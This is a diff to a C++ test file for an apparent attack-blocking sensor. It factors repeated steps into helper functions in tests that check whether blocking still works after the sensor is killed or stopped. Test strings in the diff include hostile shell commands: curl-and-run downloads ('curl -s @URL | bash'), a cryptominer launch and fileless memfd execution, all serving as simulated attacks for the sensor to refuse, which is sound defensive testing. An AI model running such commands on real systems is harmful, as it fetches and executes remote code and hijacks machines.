@@ -36,6 +36,18 @@ std::string attacks(const ChainSite& site, const FakePool& pool)
                      "miner=$!; until [ -e @D/end ]; do sleep 0.01; done; kill $miner; exit 0\n");
 }
 
+// The command stands at its beginning, under the guard.
+bool is_waiting(const ChainSite& site)
+{
+    return eventually([&] { return exists(site.folder / "inside"); });
+}
+
+void kill_sensor(Guard& guard)
+{
+    guard.process().signal(SIGKILL);
+    EXPECT_EQ(guard.process().wait(), 128 + SIGKILL);
+}
+
 void expect_refused(const ChainSite& site, const FakePool& pool)
 {
     // The miner comes last: once its connection stands, the others are over.
@@ -83,10 +95,9 @@ TEST(Survival, PinnedProgramsBlockAfterTheSensorWasKilled)
     options.mode = Mode::block;
     options.command = bash(attacks(site, pool));
     Guard guard(options);
-    ASSERT_TRUE(eventually([&] { return exists(site.folder / "inside"); }));
+    ASSERT_TRUE(is_waiting(site));
     const std::string cgroup = guard.cgroup(), pins = guard.pins();
-    guard.process().signal(SIGKILL);
-    EXPECT_EQ(guard.process().wait(), 128 + SIGKILL);
+    kill_sensor(guard);
     site.folder.write("attack", "");
     expect_refused(site, pool);
     EXPECT_TRUE(exists(pins));
@@ -125,10 +136,9 @@ TEST(Survival, ADownloadedFileDoesNotRunAfterTheSensorWasKilled)
                                      "curl -s -o @D/fetched @URL && touch @D/network_works\n"
                                      "bash @D/fetched; echo $? > @D/status\n"));
     Guard guard(options);
-    ASSERT_TRUE(eventually([&] { return exists(site.folder / "inside"); }));
+    ASSERT_TRUE(is_waiting(site));
     const std::string cgroup = guard.cgroup(), pins = guard.pins();
-    guard.process().signal(SIGKILL);
-    EXPECT_EQ(guard.process().wait(), 128 + SIGKILL);
+    kill_sensor(guard);
     site.folder.write("attack", "");
     EXPECT_TRUE(eventually([&] { return slurp(site.folder / "status") == "137\n"; }));
     EXPECT_TRUE(exists(site.folder / "network_works"));
@@ -147,7 +157,7 @@ TEST(Survival, StoppedSensorBlocksOn)
     options.mode = Mode::block;
     options.command = bash(attacks(site, pool));
     Guard guard(options);
-    ASSERT_TRUE(eventually([&] { return exists(site.folder / "inside"); }));
+    ASSERT_TRUE(is_waiting(site));
     guard.process().signal(SIGSTOP);
     site.folder.write("attack", "");
     expect_refused(site, pool);
@@ -178,7 +188,7 @@ TEST(Survival, FullAlertRingStopsNoBlock)
         " > @D/refused\ncurl -s @URL | bash\n" + program("live_fileless") + " memfd " +
         program("live_victim") + " @D v\ntouch @D/through"));
     Guard guard(options);
-    ASSERT_TRUE(eventually([&] { return exists(site.folder / "inside"); }));
+    ASSERT_TRUE(is_waiting(site));
     guard.process().signal(SIGSTOP);
     site.folder.write("attack", "");
     EXPECT_TRUE(eventually([&] { return exists(site.folder / "through"); }));
